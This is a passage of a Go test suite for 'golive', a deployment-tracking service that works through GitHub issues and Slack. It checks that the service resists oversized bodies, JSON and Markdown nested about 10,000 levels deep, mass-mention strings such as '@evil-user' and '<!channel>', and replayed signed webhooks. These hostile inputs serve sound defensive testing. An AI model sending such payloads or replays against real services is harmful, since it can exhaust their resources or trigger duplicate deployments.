	var out []slackCall
	for _, c := range tr.slack.Calls() {
		out = append(out, slackCall{method: c.Method, params: c.Params})
	}
	return out
}

// actionEndpoint puts golive's Action endpoint in front of tr, with a fake
// Actions OIDC provider for the tracked repository's jobs.
func actionEndpoint(t *testing.T, tr *trackingRig) *actionsRig {
	t.Helper()
	is := fakeoidc.New(clock.System{}, map[string]any{"repository": trackedRepo, "repository_id": "7", "run_id": "5501",
		"run_attempt": "1", "actor": "deployer", "sha": strings.Repeat("c", 40)})
	t.Cleanup(is.Close)
	h := &handlers.ActionEvents{
		Verifier: &oidc.Verifier{Issuer: is.URL(), Audience: actionsAudience, Clock: clock.System{}},
		Repos:    tr.cmds,
		RunURL:   func(repo, runID string) string { return ghclient.RunURL(tr.gh.URL, repo, runID) },
		Ingester: tr.ingester, Clock: clock.System{}, Logger: slog.New(slog.NewTextHandler(tr.logs, nil)),
	}
	srv := httptest.NewServer(h)
	t.Cleanup(srv.Close)
	return &actionsRig{trackingRig: tr, issuer: is, url: srv.URL}
}

// waitThread waits until the reminder dispatcher posted the go-live's thread.
func waitThread(t *testing.T, tr *trackingRig, id int64) {
	t.Helper()
	for deadline := time.Now().Add(15 * time.Second); time.Now().Before(deadline); time.Sleep(20 * time.Millisecond) {
		if g, err := tr.store.GetGoLiveByID(context.Background(), id); err == nil && g.SlackThreadTS != "" {
			return
		}
	}
	t.Fatalf("go-live %d got no Slack thread:\n%s", id, tr.logs)
}

// TestBadInputHugeAndDeep: bodies far over GitHub's limits, 10,000 task
// items, a megabyte-long comment and slash command, and JSON and Markdown
// nested 10,000 levels deep are answered in bounded time with bounded
// replies.
func TestBadInputHugeAndDeep(t *testing.T) {
	tr := newTrackingRigWith(t, rigOptions{reminders: true})
	tr.withWorkflows(t)
	tr.storeInstallation(t)
	tr.gh.SetPermission(trackedRepo, "walt", "write", "write")
	lr := &leakReport{}
	items := func(n int) string {
		var b strings.Builder
		for i := range n {
			fmt.Fprintf(&b, "- [ ] item %d %s\n", i, "@evil-user")
		}
		return b.String()
	}
	tooLong := "the checklist does not fit in the issue"
	timed := func(name string, f func()) {
		start := time.Now()
		f()
		took := time.Since(start)
		t.Logf("%s: handled in %s", name, took.Round(time.Millisecond))
		if took > 20*time.Second {
			t.Errorf("%s took %s", name, took)
		}
	}

	forms := []struct {
		name   string
		number int
		body   string
		want   string // the one comment contains it
	}{
		{"1 MB issue body", 80, strings.Replace(formBody(inTenDays()), "_No response_", strings.Repeat("x", 1<<20), 1), tooLong},
		{"10,000 task items in the notes", 81, strings.Replace(formBody(inTenDays()), "_No response_", items(10000), 1), tooLong},
		{"notes nested 10,000 levels (quotes and lists)", 82, strings.Replace(formBody(inTenDays()), "_No response_",
			strings.Repeat(">", 10000)+" @evil-user\n\n"+strings.Repeat("  ", 5000)+"- [ ] deep <!channel>\n", 1), "<!-- golive:tracker -->"},
	}
	for _, f := range forms {
		timed(f.name, func() {
			lr.userBodies = append(lr.userBodies, f.body)
			tr.gh.AddIssue(trackedRepo, fakegithub.Issue{Number: f.number, Title: "Go-live", Body: "(long)", Labels: []string{"golive"}})
			tr.send(t, "", tr.issueEvent(t, "opened", f.number, f.body, nil, "alice"))
			tr.settle(t)
		})
		cs := tr.gh.Comments(trackedRepo, f.number)
		if len(cs) != 1 || !strings.Contains(cs[0].Body, f.want) {
			t.Errorf("%s: comments %.300s, want one with %q", f.name, fmt.Sprint(cs), f.want)
		}
	}
	if n := len(tr.gh.CallsTo("PATCH", issueRoute)); n != 1 {
		t.Errorf("%d body updates, want 1 (the go-live that fits)", n)
	}

	// 10,000 items pasted into the checklist of a tracked go-live: handled in
	// bounded time, the go-live goes on.
	is, _ := tr.gh.GetIssue(trackedRepo, 82)
	pasted := strings.Replace(is.Body, checklist.MarkerEnd, items(10000)+checklist.MarkerEnd, 1)
	lr.userBodies = append(lr.userBodies, pasted)
	timed("10,000 items pasted into the checklist", func() {
		tr.send(t, "", tr.issueEvent(t, "edited", 82, pasted, &is.Body, "alice"))
		tr.settle(t)
	})
	g, _ := tr.store.GetGoLive(context.Background(), trackedRepoID, 82)
	if g.State != store.GoLiveActive {
		t.Errorf("after pasting 10,000 items: state %s", g.State)
	}

	// A real issues event with a member nested 9,990 levels deep: decoded
	// and tracked as usual.
	var p map[string]any
	json.Unmarshal(tr.issueEvent(t, "opened", 83, formBody(inTenDays()), nil, "alice"), &p)
	deep, _ := json.Marshal(p)
	deep = append(deep[:len(deep)-1], []byte(`,"zz":`+strings.Repeat("[", 9990)+strings.Repeat("]", 9990)+`}`)...)
	tr.gh.AddIssue(trackedRepo, fakegithub.Issue{Number: 83, Title: "Go-live", Body: formBody(inTenDays()), Labels: []string{"golive"}})
	timed("issues event nested 9,991 levels", func() {
		tr.send(t, "", deep)
		tr.settle(t)
	})
	if cs := tr.gh.Comments(trackedRepo, 83); len(cs) != 1 || !strings.HasPrefix(cs[0].Body, "<!-- golive:tracker -->") {
		t.Errorf("the deeply nested event was not tracked: %.300s", fmt.Sprint(cs))
	}

	// A megabyte-long command, and a command under 10,000 quote levels.
	tr.gh.AddIssue(trackedRepo, fakegithub.Issue{Number: 84, Title: "Release"})
	for _, c := range []struct{ name, text, want string }{
		{"1 MB ref", "/golive deploy staging " + strings.Repeat("a", 1<<20), "longer than 200 bytes"},
		{"1 MB lock reason", "/golive lock staging " + strings.Repeat("@evil-user ", 100000), "longer than 200 characters"},
		{"command under 10,000 quote levels", strings.Repeat(">", 10000) + " @evil-user\n/golive help", "/golive deploy"},
	} {
		timed(c.name, func() {
			tr.command(t, 84, "walt", "", c.text)
			tr.settle(t)
		})
		r := tr.replies(84)
		if last := r[len(r)-1]; !strings.Contains(last, c.want) || len(last) > 4000 {
			t.Errorf("%s: reply of %d bytes %.300q, want a short one with %q", c.name, len(last), last, c.want)
		}
	}
	// A slash command just under Slack's 1 MiB body.
	answer := tr.slack.ResponseURL("huge")
	timed("slash command of 1 MB", func() {
		if code, _ := tr.slackCommand(t, "U0ALLOWED", trackedRepo+" deploy staging "+strings.Repeat("b", 1000000), answer); code != http.StatusOK {
			t.Errorf("1 MB slash command: %d", code)
		}
		tr.settle(t)
	})
	if got := tr.slack.Responses("huge"); len(got) != 1 || len(got[0].Text) > 4000 || !strings.Contains(got[0].Text, "longer than 200 bytes") {
		t.Errorf("answer to a 1 MB slash command: %.300s", fmt.Sprint(got))
	}
	if n := len(tr.gh.Dispatches()); n != 0 {
		t.Errorf("%d dispatches", n)
	}
	lr.check(t, tr.gh, func() []slackCall { return slackCallsOf(tr) })
}

// TestBadInputReplayedWebhook: GitHub signs the body but not the
// X-GitHub-Delivery header, so a captured delivery can be sent again under a
// new delivery id. A replayed command comment runs once.
func TestBadInputReplayedWebhook(t *testing.T) {
	tr := newTrackingRig(t)
	tr.withWorkflows(t)
	tr.gh.AddIssue(trackedRepo, fakegithub.Issue{Number: 90, Title: "Release"})
	tr.gh.SetPermission(trackedRepo, "walt", "write", "write")
	_, ev := tr.storedComment(t, 90, false, "walt", "User", "/golive deploy staging")
	for i := range 3 {
		if code, resp := tr.post(t, signed(fmt.Sprintf("replayed-%d", i), "issue_comment", ev)); code != http.StatusAccepted {
			t.Fatalf("replay %d: %d %s", i, code, resp)
		}
		tr.settle(t)
	}
	if n := len(tr.gh.Dispatches()); n != 1 {
		t.Fatalf("one comment sent three times under new delivery ids dispatched %d deploys", n)
	}
	if r := tr.replies(90); len(r) != 1 {
		t.Fatalf("%d replies to one comment, want 1: %q", len(r), r)
	}
	// The same for an incident: one issue, one Slack thread.
	tr.gh.SetPermission(trackedRepo, "tia", "triage", "triage")
	_, inc := tr.storedComment(t, 90, false, "tia", "User", "/golive incident P2 checkout is slow")
	for i := range 3 {
		if code, resp := tr.post(t, signed(fmt.Sprintf("replayed-incident-%d", i), "issue_comment", inc)); code != http.StatusAccepted {
			t.Fatalf("replay %d: %d %s", i, code, resp)
		}
		tr.settle(t)
	}
	if all, _ := tr.store.ListIncidents(context.Background(), trackedRepoID, time.Time{}); len(all) != 1 {
		t.Fatalf("one incident comment sent three times opened %d incidents", len(all))
	}
}
